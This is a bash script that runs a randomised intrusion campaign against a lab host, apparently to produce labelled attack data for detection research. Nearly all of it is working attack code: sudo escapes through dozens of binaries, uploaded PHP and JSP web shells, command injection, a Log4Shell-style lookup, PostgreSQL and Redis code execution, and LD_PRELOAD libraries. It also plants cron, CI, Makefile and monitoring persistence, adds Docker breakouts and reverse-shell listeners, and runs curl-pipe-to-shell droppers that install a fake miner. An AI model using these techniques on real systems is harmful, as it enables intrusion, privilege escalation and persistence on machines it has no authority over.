#!/bin/bash
# attack.sh NAME SEED SECONDS: attacks on a running host through the weaknesses of its roles, one after another at random
# intervals until the time is up. The intruder's clients, listeners and download server run out here, in the host's
# network namespace. Every attack has a token of its own in the arguments of what it starts; attacks.tsv notes it.
set -uo pipefail
here=$(dirname "$(readlink -f "$0")")
. "$here/lab.env"
. "$here/work.sh"
. "$here/payloads.sh"
[ $# = 3 ] || die "usage: attack.sh NAME SEED SECONDS"
name=$1 RANDOM=$2 until=$((SECONDS + $3)) count=0
dir=$HOSTS/$name roles=,$(cat "$dir/roles"), leader=$(cat "$HOSTS/$1/leader.pid")
client=$(client)
net() { nsenter -t "$leader" -n "$@"; }
has() { [[ $roles == *,$1,* ]]; }
W=9911
ssh_options=(-i "$LAB_DIR/key" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -o ConnectTimeout=5)

# compiled SOURCE FLAG...: compiles for every release: static, or without any library; prints the program's path.
compiled() {
	local f=var/tmp/$name.$RANDOM source=$1
	shift
	echo "$source" >"$client/$f.c"
	chroot "$client" gcc -O1 "$@" -o "/$f" "/$f.c" >/dev/null 2>&1
	rm -f "$client/$f.c"
	echo "$client/$f"
}

# preloadable COMMAND: source of a library whose constructor runs it.
preloadable() {
	printf 'int system(const char*);int unsetenv(const char*);\n__attribute__((constructor)) static void go(void){unsetenv("LD_PRELOAD");system(%s);}\n' "$(quoted "$1")"
}

quoted() { python3 -c 'import sys,json; print(json.dumps(sys.argv[1]))' "$1"; }

# What the intruder's server hands out.
downloads() {
	local www=$dir/www
	mkdir -p "$www"
	mv "$(compiled 'int main(){volatile unsigned long i=0;for(;i<300000000UL;i++);return 0;}' -static)" "$www/xmrig"
	cp "$www/xmrig" "$www/kdevtmpfsi"
	mv "$(compiled "$(preloadable 'id; hostname; ls /root | wc -l')" -nostdlib -shared -fPIC)" "$www/p.so"
	printf '#!/bin/bash\nid\nuname -a\npkill -f kinsing\ncrontab -l 2>/dev/null | grep -v x | crontab - 2>/dev/null\nmkdir -p /dev/shm/.d; cd /dev/shm/.d || cd /tmp\ncurl -s -o xmrig http://127.0.0.1:%d/xmrig || wget -q -O xmrig http://127.0.0.1:%d/xmrig\nchmod +x xmrig\nnohup ./xmrig -o 127.0.0.1:3333 >/dev/null 2>&1 &\nps aux | grep xmrig\n' $W $W >"$www/s.sh"
	printf 'import os,subprocess\nsubprocess.call("id; cat /etc/passwd | wc -l",shell=True)\nos.system("curl -s http://127.0.0.1:%d/s.sh | bash")\n' $W >"$www/s.py"
	printf 'system("id; uname -a"); system("wget -q -O- http://127.0.0.1:%d/s.sh | sh");\n' $W >"$www/s.pl"
	printf 'system("id; w"); system("curl -s http://127.0.0.1:%d/s.sh | sh")\n' $W >"$www/s.rb"
	printf 'system("id; ps aux | tail -1; curl -s http://127.0.0.1:%d/s.sh | sh");' $W >"$www/s.txt"
	printf '#include <stdlib.h>\n#include <unistd.h>\nint main(){execl("/bin/sh","sh","-c","id; whoami; curl -s http://127.0.0.1:%d/s.sh | bash",(char*)0);}\n' $W >"$www/ls.c"
	printf '#include <stdlib.h>\nint main(){return system("/bin/bash -c \\"id; cat /etc/shadow | wc -l\\"");}\n' >"$www/e.c"
	(cd "$www" && printf '#!/bin/bash\nchmod +x run; ./run; nohup ./xmrig &\n' >install.sh && printf '#!/bin/sh\nid; uname -m; sh -c "ps | wc -l"\n' >run && tar czf b.tgz install.sh run xmrig)
	nsenter -t "$leader" -n python3 "$here/dropserver.py" $W "$www" >/dev/null 2>&1 &
	server=$!
}

# listener: answers a reverse shell with a few commands, then hangs up.
listener() {
	one_of 'id\nuname -a\nps aux | tail -3\nexit\n' 'whoami\nls -la /tmp\ncat /etc/passwd | tail -1\nss -ltn\nexit\n' \
		'python3 -c "import pty; pty.spawn(\\"/bin/bash\\")"\nid\nsudo -n -l\nexit\nexit\n' "curl -s http://127.0.0.1:$W/s.sh | bash\nexit\n" \
		'find / -xdev -perm -4000 2>/dev/null | head -2\ngrep -r pass /srv/app | head -2\nexit\n' 'bash -i\nid\nhostname\nexit\nexit\n' \
		'w\nlast -n 2\ntar czf /tmp/.h.tgz /home 2>/dev/null\nrm -f /tmp/.h.tgz\nexit\n'
	local lines=$REPLY
	{
		sleep 0.7
		# shellcheck disable=SC2059
		printf "$lines"
		sleep 2
	} | timeout 9 nsenter -t "$leader" -n chroot "$client" nc -n -l -p "$P" -s 127.0.0.1 >/dev/null 2>&1 &
}

enc() { python3 -c 'import sys,urllib.parse as u; print(u.quote(sys.argv[1]))' "$1"; }
get() { net curl -s -m 12 -o /dev/null "$@"; }
as() { timeout 25 nsenter -t "$leader" -n ssh "${ssh_options[@]}" "$1@127.0.0.1" "$2" </dev/null >/dev/null 2>&1; }

# terminal USER LINE...: an intruder with a stolen key at a terminal.
terminal() {
	local user=$1
	shift
	{
		sleep 2
		for l in "$@"; do
			echo "$l"
			sleep "2.$((RANDOM % 9))"
		done
		printf 'q\nexit\n'
		sleep 0.5
	} | timeout 40 nsenter -t "$leader" -n ssh -tt "${ssh_options[@]}" "$user@127.0.0.1" >/dev/null 2>&1
}

# sudo_escape: one way from a restricted sudo to a root shell, with the token in its arguments.
sudo_escape() {
	local t=/var/tmp/.$T q
	printf -v q %q ": $T; $1"
	case $((RANDOM % 26)) in
	0) REPLY="sudo find /etc/hostname -exec sh -c $q \\;" ;;
	1) REPLY="sudo vim -es -c ':!sh -c $(printf %q "$q")' -c ':q!' $t" ;;
	2) REPLY="sudo awk 'BEGIN {system(ARGV[1])}' $q" ;;
	3) echo "$1" >"$dir/root/var/tmp/.s$T"; REPLY="sudo tar cf /dev/null /etc/hostname --checkpoint=1 --checkpoint-action=exec='sh /var/tmp/.s$T'" ;;
	4) echo "$1" >"$dir/root/var/tmp/.s$T"; REPLY="LESSOPEN='' sudo less /etc/services +'!sh /var/tmp/.s$T'" ;;
	5) REPLY="sudo python3 -c 'import os,sys; os.execl(\"/bin/sh\",\"sh\",\"-c\",sys.argv[1])' $q" ;;
	6) REPLY="sudo perl -e 'exec(\"/bin/sh\",\"-c\",\$ARGV[0])' $q" ;;
	7) REPLY="sudo env /bin/sh -c $q" ;;
	8) echo "$1" >"$dir/root/var/tmp/.s$T"; REPLY="sudo git -c core.pager='sh /var/tmp/.s$T' -p --help config" ;;
	9) echo "$1" >"$dir/root/var/tmp/.s$T"; REPLY="sudo man -P 'sh /var/tmp/.s$T' ls" ;;
	10) echo "$1" >"$dir/root/var/tmp/.s$T"; REPLY="sudo make -s --eval=\$'x:\\n\\t-sh /var/tmp/.s$T' x" ;;
	11) echo "$1" >"$dir/root/var/tmp/.s$T"; REPLY="sudo rsync -e 'sh /var/tmp/.s$T' x:/dev/null /dev/null" ;;
	12) echo "$1" >"$dir/root/var/tmp/.s$T"; REPLY="sudo zip -q /tmp/.$T.zip /etc/hosts -T -TT 'sh /var/tmp/.s$T #'" ;;
	13) REPLY="sudo flock -u / /bin/sh -c $q" ;;
	14) REPLY="sudo nice /bin/sh -c $q" ;;
	15) REPLY="sudo timeout 20 /bin/bash -c $q" ;;
	16) REPLY="sudo xargs -a /dev/null sh -c $q" ;;
	17) echo "$1" >"$dir/root/var/tmp/.s$T"; REPLY="sudo gdb -nx -batch -ex '!sh /var/tmp/.s$T'" ;;
	18) REPLY="sudo ruby -e 'exec \"/bin/sh\",\"-c\",ARGV[0]' $q" ;;
	19) REPLY="sudo node -e 'require(\"child_process\").spawnSync(\"/bin/sh\",[\"-c\",process.argv[1]],{stdio:\"inherit\"})' $q" ;;
	20) echo "$1" >"$dir/root/var/tmp/.s$T"; REPLY="sudo expect -c 'spawn sh /var/tmp/.s$T; expect eof'" ;;
	21) echo "$1" >"$dir/root/var/tmp/.s$T"; REPLY="sudo tmux -L .$T new-session -d 'sh /var/tmp/.s$T'" ;;
	22) REPLY="sudo script -qc $q /dev/null" ;;
	23) REPLY="echo ': $T; sh -c $q' | sudo tee /etc/cron.d/.$T; sudo env sh -c $q" ;;
	24) printf '/tmp/.r%s {\n size 0\n prerotate\n  sh /var/tmp/.s%s\n endscript\n}\n' "$T" "$T" >"$dir/root/etc/logrotate.d/.$T"; echo "$1" >"$dir/root/var/tmp/.s$T"; REPLY="echo $T >/tmp/.r$T; sudo logrotate -f /etc/logrotate.d/.$T" ;;
	25) REPLY="sudo apt-get -q update -o APT::Update::Pre-Invoke::=$q" ;;
	esac
}

web() { # PHP: command injection, or an uploaded shell
	local c
	c=$(enc ";$1")
	if ((RANDOM % 2)); then
		what="command injection in ping.php: $2"
		get "http://127.0.0.1/ping.php?host=$c"
	else
		what="uploaded PHP web shell: $2"
		one_of 'system($_REQUEST["c"]);' 'passthru($_REQUEST["c"]);' 'echo shell_exec($_REQUEST["c"]);' 'echo `$_REQUEST[c]`;' '$p=popen($_REQUEST["c"],"r");echo fread($p,99);pclose($p);' 'proc_close(proc_open($_REQUEST["c"],[],$x));'
		echo "<?php $REPLY" >"$dir/s.php"
		one_of img.php cache.php up.php x.php wp-tmp.php
		net curl -s -m 5 -o /dev/null -F "f=@$dir/s.php;filename=$REPLY" http://127.0.0.1/upload.php
		get --data-urlencode "c=$1" "http://127.0.0.1/uploads/$REPLY"
	fi
}

cgi() {
	if ((RANDOM % 2)); then
		what="command injection in a Python CGI: $2"
		get "http://127.0.0.1/cgi-bin/lookup.py?name=$(enc ";$1")"
	else
		what="pipe open in a Perl CGI: $2"
		get "http://127.0.0.1/cgi-bin/env.pl?f=$(enc "$1 |")"
	fi
}

so() { mv "$(compiled "$(preloadable "$1")" -nostdlib -shared -fPIC)" "$dir/root/var/tmp/.$T.so"; }

# strike: one attack on one of the weaknesses the host's roles have, with COMMAND (dressed) or its bare PAYLOAD.
strike() {
	local cmd=$1 bare=$2 short=${2:0:200} vectors="sshkey sshkey terminal sudo sudo sudo rcfile cron preload fakels at gs gs make"
	! { has apache || has fpm; } || vectors+=" web web web web cgi cgi"
	! has nginx || vectors+=" web web web"
	local r
	for r in box app gunicorn uwsgi node java tomcat pg redis mail ci cm desk mon; do ! has $r || vectors+=" $r $r"; done
	# shellcheck disable=SC2086
	one_of ${VECTORS:-$vectors}
	local vector=$REPLY q
	scope=command
	printf -v q %q "$cmd"
	what="$vector: $short"
	case $vector in
	web) web "$cmd" "$short" ;;
	cgi) cgi "$cmd" "$short" ;;
	app) what="command injection in a Python service: $short"; get "http://127.0.0.1:5000/lookup?name=$(enc ";$cmd")" ;;
	box)
		case $((RANDOM % 5)) in
		0 | 1) what="command injection in a Python service in a container: $short"; get "http://127.0.0.1:5000/lookup?name=$(enc ";$cmd")" ;;
		2) what="a member of the group docker leaves by a container with the host's root mounted: $short"; as deploy "docker run --rm -v /:/mnt box chroot /mnt sh -c $q" ;;
		3) what="a privileged container enters the host's namespaces: $short"; as deploy "docker run --rm --privileged --pid=host box nsenter -t 1 -m -u -n -i sh -c $q" ;;
		4) what="command run in a service's container with a stolen key: $short"; as deploy "docker exec web sh -c $q" ;;
		esac ;;
	gunicorn) what="command injection behind gunicorn: $short"; get "http://127.0.0.1:5001/lookup?name=$(enc ";$cmd")" ;;
	uwsgi) what="command injection behind uwsgi: $short"; get "http://127.0.0.1:5002/lookup?name=$(enc ";$cmd")" ;;
	node) what="command injection in a Node service: $short"; get "http://127.0.0.1:3000/log?ref=$(enc ";$cmd")" ;;
	java)
		what="lookup in a logged string of a Java server starts a shell, as Log4Shell does: $short"
		one_of '' bash:
		get "http://127.0.0.1:8080/login?$(enc "\${exec:$REPLY$cmd}")" ;;
	tomcat) what="JSP web shell: $short"; get -G --data-urlencode "c=$cmd" http://127.0.0.1:8080/view.jsp ;;
	pg)
		what="COPY through a program in PostgreSQL: $short"
		if ((RANDOM % 2)); then
			net chroot "$client" psql -q -h 127.0.0.1 -U postgres -c "create table if not exists x(a text); copy x from program \$q\$$cmd\$q\$"
		else
			net chroot "$client" psql -q -h 127.0.0.1 -U postgres -c "copy (select 1) to program \$q\$$cmd\$q\$"
		fi ;;
	redis)
		what="module loaded into an open Redis runs a shell: $short"
		so "$cmd"
		net chroot "$client" timeout 12 redis-cli module load "/var/tmp/.$T.so" ;;
	mail)
		what="mail subject evaluated by an alias program: $short"
		printf 'From: x@localhost\nTo: help\nSubject: $(sh -c %s)\n\nx\n' "$q" | net curl -s -m 8 --mail-from x@localhost --mail-rcpt help@localhost -T - smtp://127.0.0.1/localhost ;;
	ci)
		what="poisoned build: $short"
		one_of "printf 'all:\\n\\t-@%s\\n' ${q//\$/\$\$} >Makefile; make" "printf 'import os\\nos.system(open(\"x\").read())\\n' >setup.py; printf '%s' $q >x; python3 setup.py install -$T" "printf '#!/bin/sh\\n%s\\n' $q >configure; sh ./configure --id=$T" "git init -q .; printf '#!/bin/sh\\n%s\\n' $q >.git/hooks/post-commit; chmod +x .git/hooks/post-commit; git -c user.name=x -c user.email=x commit -q --allow-empty -m $T"
		echo "$REPLY" >"$dir/root/srv/ci/queue/z$T.tmp" && mv "$dir/root/srv/ci/queue/z$T.tmp" "$dir/root/srv/ci/queue/z$T"
		sleep 8 ;;
	cm)
		what="poisoned playbook: $short"
		printf -- '- hosts: localhost\n  connection: local\n  gather_facts: false\n  tasks:\n    - shell: |\n        %s\n' "$cmd" >"$dir/root/var/tmp/.$T.yml"
		as root "ansible-playbook -i localhost, /var/tmp/.$T.yml" ;;
	desk)
		printf '#!/bin/sh\n%s\n' "$cmd" >"$dir/root/var/tmp/.$T"
		chmod 755 "$dir/root/var/tmp/.$T"
		if ((RANDOM % 2)); then
			what="document viewer (xpdf, told through its remote control to run a command) starts a shell: $short"
			cp "$dir/root/srv/docs/guide.pdf" "$dir/root/home/carol/inbox/invoice$count.pdf"
			sleep 10
			# The xpdf in the path is a wrapper that splits arguments.
			as carol "DISPLAY=:7 xpdf.real -remote x -exec 'run(/var/tmp/.$T)'"
		else
			what="opened PostScript document runs a pipe (Ghostscript without its safer mode): $short"
			printf '%%!PS\n(%%pipe%%sh /var/tmp/.%s) (r) file closefile\nquit\n' "$T" >"$dir/root/home/carol/inbox/invoice$count.ps"
			sleep 10
		fi ;;
	mon)
		what="planted monitoring plugin: $short"
		printf '#!/bin/sh\nsh -c %s\necho load.value 1\n' "$q" >"$dir/root/etc/munin/plugins/z$T"
		chmod 755 "$dir/root/etc/munin/plugins/z$T"
		as root "systemctl restart munin-node"
		printf 'fetch z%s\nquit\n' "$T" | net chroot "$client" nc -q 3 -w 9 127.0.0.1 4949
		rm -f "$dir/root/etc/munin/plugins/z$T" ;;
	sshkey) one_of root deploy bob; what="command over ssh with a stolen key ($REPLY): $short"; as "$REPLY" "$cmd" ;;
	terminal) scope=session; one_of bob deploy; what="intruder at a terminal ($REPLY): $short"; terminal "$REPLY" "$cmd" "sh -c ': $T; id; sudo -l'" ;;
	sudo) sudo_escape "$bare"; what="restricted sudo escaped, ${REPLY:5:40}...: $short"; terminal deploy "$REPLY" ;;
	rcfile)
		scope=session
		what="intruder's own shell at a terminal: $short"
		echo 'unset HISTFILE' >"$dir/root/var/tmp/.$T"
		one_of 'id' 'w' 'ls -la /root'
		terminal deploy "exec bash --rcfile /var/tmp/.$T -i" "$bare" "$REPLY" "sudo -n -l" ;;
	cron)
		what="planted cron entry: $short"
		as root "echo '* * * * * root sh -c \": $T; id\"; : $T' >/etc/cron.d/z$T"
		printf '* * * * * root %s\n' "${cmd//%/\\%}" >"$dir/root/etc/cron.d/z$T"
		sleep $((63 - 10#$(date +%S)))
		rm -f "$dir/root/etc/cron.d/z$T"
		sleep 3 ;;
	preload)
		so "$cmd"
		one_of ls date id hostname w ps
		what="exploited /bin/$REPLY (library preloaded into it) starts a shell: $short"
		as bob "LD_PRELOAD=/var/tmp/.$T.so $REPLY" ;;
	fakels)
		one_of ls ps netstat update sshd crond
		what="program pretending to be $REPLY starts a shell: $short"
		mkdir -p "$dir/root/var/tmp/.$T" && chmod 777 "$dir/root/var/tmp/.$T"
		mv "$(compiled "#include <stdlib.h>
int main(){return system($(quoted "$cmd"))!=0;}" -static)" "$dir/root/var/tmp/.$T/$REPLY"
		as bob "/var/tmp/.$T/$REPLY -la" ;;
	at) what="command left with at: $short"; as deploy "echo 'sh -c '$(printf %q "$q") | at now"; sleep 3 ;;
	gs)
		what="document whose PostScript opens a pipe (Ghostscript without its safer mode): $short"
		echo "$bare" >"$dir/root/var/tmp/.$T"
		printf '%%!PS\n(%%pipe%%sh /var/tmp/.%s) (r) file closefile\nquit\n' "$T" >"$dir/root/var/tmp/invoice$count.ps"
		one_of "gs -q -dNOSAFER -dNODISPLAY -dBATCH /var/tmp/invoice$count.ps" "ps2pdf -dNOSAFER /var/tmp/invoice$count.ps /tmp/o.pdf"
		as carol "$REPLY" ;;
	make)
		what="poisoned Makefile in a developer's checkout: $short"
		mkdir -p "$dir/root/srv/proj/lib$count"
		printf 'all:\n\t-@%s\n' "${cmd//\$/\$\$}" >"$dir/root/srv/proj/lib$count/Makefile"
		chmod -R a+rwX "$dir/root/srv/proj/lib$count"
		as alice "make -C /srv/proj/lib$count" ;;
	esac >/dev/null 2>&1
}

downloads
trap 'kill $server 2>/dev/null' EXIT
sleep 5
while ((SECONDS < until)); do
	count=$((count + 1))
	printf -v T '%04x%04x' $((RANDOM * 2 + 1 & 0xffff)) $((RANDOM * 2 & 0xffff))
	P=$((20000 + RANDOM % 20000))
	payload
	bare=$REPLY
	case $bare in *"$P"*) listener ;; esac
	dressed "$bare"
	from=$(date +%s.%N)
	strike "$REPLY" "$bare"
	printf '%s-%03d\t%s\t%s\t%s\t%s\t%s\n' "$name" $count "$T" "$from" "$(date +%s.%N)" "$scope" "$(tr '\t\n' '  ' <<<"${what//$T/TOKEN}")" >>"$dir/attacks.tsv"
	sleep "$((RANDOM % ${GAP:-8}))"
done
